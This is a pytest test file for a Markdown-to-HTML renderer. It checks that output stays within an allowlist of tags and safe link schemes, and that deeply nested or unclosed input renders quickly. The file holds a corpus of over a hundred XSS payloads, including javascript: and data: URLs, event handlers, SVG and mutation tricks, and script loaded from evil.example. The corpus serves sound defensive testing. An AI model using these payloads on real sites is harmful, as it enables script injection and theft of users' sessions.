"""render_markdown: what officials' Markdown becomes, and what hostile Markdown cannot become.

No database: the renderer is a pure function of its input.
"""

import re
import sys
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.markdown import MAX_SOURCE_LENGTH, render_markdown

REL = "noopener noreferrer nofollow"
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "b", "i", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
    "h2", "h3", "h4", "h5", "h6", "del", "sup", "sub", "abbr", "dl", "dt", "dd",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}
FORBIDDEN_MARKUP = (
    "<script", "<iframe", "<object", "<embed", "<style", "<svg", "<math",
    "<img", "<form", "<meta", "<base",
)  # fmt: skip
EVENT_HANDLER = re.compile(r"\son\w+\s*=", re.IGNORECASE)
QUOTED_VALUE = re.compile(r"\"[^\"]*\"|'[^']*'")
# What browsers drop from a URL before reading its scheme.
URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")


class _Markup(HTMLParser):
    """Collects every start tag of an HTML fragment: name, decoded attributes, raw text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None], str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs), self.get_starttag_text()))

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    """Fail unless ``html`` holds nothing that could run script or leave the allowlist."""
    assert isinstance(html, str)
    lowered = html.lower()
    for needle in FORBIDDEN_MARKUP:
        assert needle not in lowered, f"{needle} in {html!r}"
    for tag, attrs, raw in _Markup(html).tags:
        assert tag in ALLOWED_TAGS, html
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()), html
        assert not any(name.startswith("on") for name in attrs), html
        # Escaped payloads are shown to the reader as text ("&lt;img onerror=...&gt;") and may
        # sit in a title; only what is markup, outside quoted values, may not look like a handler.
        assert not EVENT_HANDLER.search(QUOTED_VALUE.sub('""', raw)), raw
        if tag == "a":
            assert attrs.get("rel") == REL, html
            if "href" in attrs:
                assert_safe_href(attrs["href"])


def assert_safe_href(href: str) -> None:
    """Fail unless a browser would read ``href`` as http(s), mailto or a path on this site."""
    seen = URL_IGNORED.sub("", href)
    assert not seen.lower().startswith(("javascript:", "vbscript:", "data:")), href
    scheme = urlsplit(seen).scheme.lower()
    if scheme:
        assert scheme in {"http", "https", "mailto"}, href
    else:
        assert href.startswith("/") and not seen.startswith(("//", "/\\")), href


@pytest.mark.parametrize(
    "html",
    [
        "<p><script>alert(1)</script></p>",
        "<p><img src=x></p>",
        '<p onclick="alert(1)">x</p>',
        '<a href="/x">no rel</a>',
        f'<a href="jav&#x09;ascript:alert(1)" rel="{REL}">x</a>',
        f'<a href=" data:text/html,x" rel="{REL}">x</a>',
        f'<a href="//evil.example" rel="{REL}">x</a>',
        f'<a href="relative" rel="{REL}">x</a>',
        '<p class="x">x</p>',
        "<h1>x</h1>",
    ],
)
def test_the_safety_check_itself_catches_unsafe_html(html):
    with pytest.raises(AssertionError):
        assert_safe(html)


def hrefs(html: str) -> list[str | None]:
    return [attrs.get("href") for tag, attrs, _ in _Markup(html).tags if tag == "a"]


# --- What officials write -------------------------------------------------------------------


def test_paragraphs_and_emphasis():
    assert render_markdown("one *two*\n\n**three** _four_ __five__") == (
        "<p>one <em>two</em></p>\n<p><strong>three</strong> <em>four</em> <strong>five</strong></p>"
    )


def test_lines_in_a_paragraph_break_only_with_two_trailing_spaces():
    assert render_markdown("a\nb") == "<p>a\nb</p>"
    assert render_markdown("a  \nb") == "<p>a<br>\nb</p>"


def test_lists_keep_their_start_number():
    assert render_markdown("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"
    assert render_markdown("3. c\n4. d") == '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'


def test_nested_list():
    html = render_markdown("- a\n    - b\n        - c")
    assert html.count("<ul>") == 3
    assert "<li>c</li>" in html


def test_table_keeps_column_alignment():
    html = render_markdown("| Item | Count |\n|:-----|------:|\n| keys | 12 |")
    assert '<th align="left">Item</th>' in html
    assert '<th align="right">Count</th>' in html
    assert '<td align="right">12</td>' in html
    assert html.startswith("<table>\n<thead>") and html.endswith("</tbody>\n</table>")


def test_fenced_code_is_escaped_and_loses_its_language_class():
    html = render_markdown('```python\nif a < b && c:\n    print("<b>")\n```')
    assert html == ('<pre><code>if a &lt; b &amp;&amp; c:\n    print("&lt;b&gt;")\n</code></pre>')


def test_inline_code_is_escaped():
    assert render_markdown("`a < b & c`") == "<p><code>a &lt; b &amp; c</code></p>"


def test_headings_move_one_level_down():
    html = render_markdown("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6")
    assert html == "<h2>1</h2>\n<h3>2</h3>\n<h4>3</h4>\n<h5>4</h5>\n<h6>5</h6>\n<h6>6</h6>"


def test_underlined_headings_move_down_too():
    assert render_markdown("Title\n=====\n\nSub\n---") == "<h2>Title</h2>\n<h3>Sub</h3>"


def test_there_is_never_an_h1():
    assert "<h1" not in render_markdown("# a\n\nb\n=\n\n<h1>c</h1>")


def test_link_gets_rel_and_keeps_title():
    assert render_markdown('[site](https://example.org/a?b=1&c=2 "Home")') == (
        '<p><a href="https://example.org/a?b=1&amp;c=2" title="Home" rel="noopener noreferrer '
        'nofollow">site</a></p>'
    )


def test_mailto_links_and_autolinks_are_kept():
    assert hrefs(render_markdown("[write](mailto:desk@example.org)")) == ["mailto:desk@example.org"]
    # Python-Markdown hides the address behind character references; the browser and we
    # see the plain address.
    assert hrefs(render_markdown("<desk@example.org>")) == ["mailto:desk@example.org"]
    assert hrefs(render_markdown("<https://example.org/x>")) == ["https://example.org/x"]


def test_reference_links_work():
    html = render_markdown('See [the list][r].\n\n[r]: https://example.org/r "Ref"')
    assert html == (
        '<p>See <a href="https://example.org/r" title="Ref" rel="noopener noreferrer nofollow">'
        "the list</a>.</p>"
    )


def test_site_paths_are_kept_but_other_relative_links_are_dropped():
    html = render_markdown("[a](/sharing/notices/) [b](notices) [c](#top) [d](?page=2) [e](../x)")
    assert hrefs(html) == ["/sharing/notices/", None, None, None, None]
    assert '<a rel="noopener noreferrer nofollow">b</a>' in html


@pytest.mark.parametrize(
    "destination",
    # A literal tab would become spaces (Python-Markdown expands tabs); an encoded one stays.
    ["//evil.example/x", "/\\evil.example/x", "\\\\evil.example", "/&#9;/evil.example"],
)
def test_protocol_relative_links_are_dropped(destination):
    assert hrefs(render_markdown(f"[x](<{destination}>)")) == [None]


def test_raw_html_is_shown_as_text():
    assert render_markdown("<b>bold</b> <!-- note -->") == (
        "<p>&lt;b&gt;bold&lt;/b&gt; &lt;!-- note --&gt;</p>"
    )
    assert render_markdown("<div>\n<script>alert(1)</script>\n</div>") == (
        "<p>&lt;div&gt;\n&lt;script&gt;alert(1)&lt;/script&gt;\n&lt;/div&gt;</p>"
    )


def test_character_references_still_work():
    assert render_markdown("AT&T &copy; &#169; &lt;b&gt;") == "<p>AT&amp;T © © &lt;b&gt;</p>"


def test_images_stay_as_text():
    assert render_markdown("![logo](https://example.org/logo.png)") == (
        "<p>![logo](https://example.org/logo.png)</p>"
    )


def test_definition_lists_and_abbreviations():
    assert (
        render_markdown("Term\n:   Definition") == "<dl>\n<dt>Term</dt>\n<dd>Definition</dd>\n</dl>"
    )
    assert render_markdown("*[EU]: European Union\n\nThe EU acts.") == (
        '<p>The <abbr title="European Union">EU</abbr> acts.</p>'
    )


def test_quote_and_rule():
    assert render_markdown("> quote\n\n***") == "<blockquote>\n<p>quote</p>\n</blockquote>\n<hr>"


@pytest.mark.parametrize("text", ["", " ", "\n\n", "\t \r\n", "\u3000\u00a0"])
def test_blank_input_gives_empty_string(text):
    assert render_markdown(text) == ""


def test_source_at_the_limit_renders_and_one_more_character_raises():
    assert render_markdown("a" * MAX_SOURCE_LENGTH) == "<p>" + "a" * MAX_SOURCE_LENGTH + "</p>"
    with pytest.raises(ValueError, match="200000"):
        render_markdown("a" * (MAX_SOURCE_LENGTH + 1))


def test_lone_surrogates_and_control_characters_do_not_raise():
    assert render_markdown("a\ud800b\x00c\x02d\x1be") == "<p>a\ufffdbcde</p>"


def test_same_input_gives_same_output():
    text = "*[EU]: European Union\n\n[x][r] EU\n\n[r]: https://example.org\n\n" + "[" * 3000
    assert render_markdown(text) == render_markdown(text)


# --- Hostile structure: deep nesting and slow corners ---------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "".join("    " * level + "- a\n" for level in range(300)),
        "1. " * 5000 + "x",
        "> " * 5000 + "x",
        "a\n: b\n" * 1400,
        "> 1. - : " * 3000,
    ],
    ids=["indented-lists", "inline-lists", "quotes", "definitions", "mixed"],
)
def test_deep_nesting_renders_the_same_whatever_the_callers_stack_depth(text):
    expected = render_markdown(text)
    assert_safe(expected)

    def at_depth(frames: int) -> str:
        return at_depth(frames - 1) if frames else render_markdown(text)

    # Close to Python's default recursion limit of 1000, as inside a deep template render.
    assert at_depth(sys.getrecursionlimit() - 300) == expected


def test_text_nested_too_deep_is_kept_as_a_paragraph():
    html = render_markdown("- " * 40 + "deepest")
    assert html.count("<ul>") == 32
    assert "deepest" in html


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "[a](" * 12_500, '[]("' * 12_500],
    ids=["open-brackets", "open-links", "open-titles"],
)
def test_unclosed_links_do_not_take_minutes(text):
    started = time.monotonic()
    html = render_markdown(text)
    # Unbounded, the first of these takes about six minutes.
    assert time.monotonic() - started < 10
    assert_safe(html)


def test_a_paragraph_of_thousands_of_links_keeps_them_all():
    many_links = "\n".join(f"[evil{i}](https://evil{i}.example/path)" for i in range(3000))
    assert len(hrefs(render_markdown(many_links))) == 3000


# --- XSS corpus -----------------------------------------------------------------------------

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
JAVASCRIPT_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:")


def fullwidth(ascii_text: str) -> str:
    """``ascii_text`` in fullwidth forms, which some filters fold back to ASCII."""
    return "".join(chr(ord(c) + 0xFEE0) for c in ascii_text)


XSS_PAYLOADS = [
    # Script elements, in every case and shape.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '<script/xss src="http://evil.example/x.js"></script>',
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    '<script\ttype="text/javascript">alert(1);</script>',
    "</script><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    # Images and event handlers with odd whitespace and quotes.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    f"<IMG SRC={JAVASCRIPT_DECIMAL}alert('XSS')>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror\n=alert(1)>",
    '<img src=x onerror   =   "alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=`x` onerror=`alert(1)`>",
    '<div onmouseover="alert(1)">hover</div>',
    "<x onclick=alert(1)>click",
    "<p\tonclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # SVG, MathML, details and mutation tricks.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    # Frames, plugins, styles, redirects and forms.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:text/html;base64,{B64_SCRIPT}">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    # Markdown inline links.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    f"[x]({JAVASCRIPT_DECIMAL}alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](" + fullwidth("javascript") + ":alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](//evil.example)",
    # Link titles that try to leave their attribute.
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1))',
    "[x](https://ok.example 'a' onmouseover=alert(1) x='')",
    '[x](https://ok.example "\\"><script>alert(1)</script>")',
    '[x](https://ok.example"onmouseover="alert(1))',
    '[<img src=x onerror=alert(1)>](https://ok.example "x onclick=alert(1)")',
    # Reference-style links.
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: JaVaScRiPt:alert(1) "t"',
    "[x]\n\n[x]: &#106;avascript:alert(1)",
    "[x][a]\n\n[a]: <data:text/html,<script>alert(1)</script>>",
    '[x][a]\n\n[a]: https://ok.example "\\" onmouseover=\\"alert(1)"',
    # Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<javascript://%0Aalert(1)>",
    "<vbscript://msgbox(1)>",
    f"<data://text/html;base64,{B64_SCRIPT}>",
    # Images.
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    # Comments, CDATA, doctypes and processing instructions.
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    # Breaking out of code.
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '```html" onload="alert(1)\n<x>\n```',
    # Payloads inside other Markdown blocks.
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) |\n|---|\n| y |",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    "<svg onload=alert(1)>\n:   <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <iframe src=javascript:alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "<div>\n<script>alert(1)</script>\n</div>",
    "<a href='javascript:alert(1)'>[x](javascript:alert(1))</a>",
    # Unicode tricks.
    f"<{fullwidth('script')}>alert(1)</{fullwidth('script')}>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth < and >
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](javascript\u2028:alert(1))",
]


def test_the_corpus_has_at_least_sixty_distinct_payloads():
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS) >= 60


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_defused(payload):
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize(
    "payload",
    [
        "[x](javascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x][1]\n\n[1]: vbscript:msgbox(1)",
        "<javascript://%0Aalert(1)>",
        f"[x](data:text/html;base64,{B64_SCRIPT})",
    ],
)
def test_dangerous_destination_leaves_a_link_without_href(payload):
    assert hrefs(render_markdown(payload)) == [None]


# --- Properties -----------------------------------------------------------------------------

FRAGMENTS = [
    "<", ">", "</", "/>", "script", "img", "svg", "iframe", " src=", " onerror=", " onload=",
    "alert(1)", "javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "&#106;", "&#x6A;",
    "&#9;", "&colon;", "&", ";", "\"", "'", "`", "```", "[", "]", "(", ")", "](", "![", "]: ",
    "*[", "<http://", "<mailto:", "@", "//", "/\\", "\\", ":", "#", "-", "*", "_", "|", "|---|",
    "> ", "- ", "1. ", ":   ", "    ", "\t", "\n", "\n\n", "\x00", "\u202e", "\ud800", "<!--",
    "-->", "<![CDATA[", "]]>",
]  # fmt: skip
any_text = st.text(st.characters(exclude_categories=()), max_size=400)
dangerous_text = st.lists(
    st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=60
).map("".join)
property_settings = settings(max_examples=300, deadline=None)


@property_settings
@given(any_text)
def test_any_text_renders_safely_and_the_same_twice(text):
    html = render_markdown(text)
    assert_safe(html)
    assert render_markdown(text) == html


@property_settings
@given(dangerous_text)
def test_text_built_from_dangerous_fragments_renders_safely(text):
    html = render_markdown(text)
    assert_safe(html)
    assert render_markdown(text) == html


@pytest.mark.parametrize(
    "text",
    ["a\n=\n" * 2000, "# a\n" * 3001, "".join(f"*[A{i}]: x\n" for i in range(101))],
)
def test_texts_that_would_render_slowly_are_refused_up_front(text):
    from portal.markdown import size_problem

    assert size_problem(text)
    with pytest.raises(ValueError):
        render_markdown(text)


def test_a_long_ordinary_text_is_within_the_limits():
    from portal.markdown import size_problem

    assert size_problem(("A paragraph of a real notice. " * 30 + "\n\n") * 100) is None
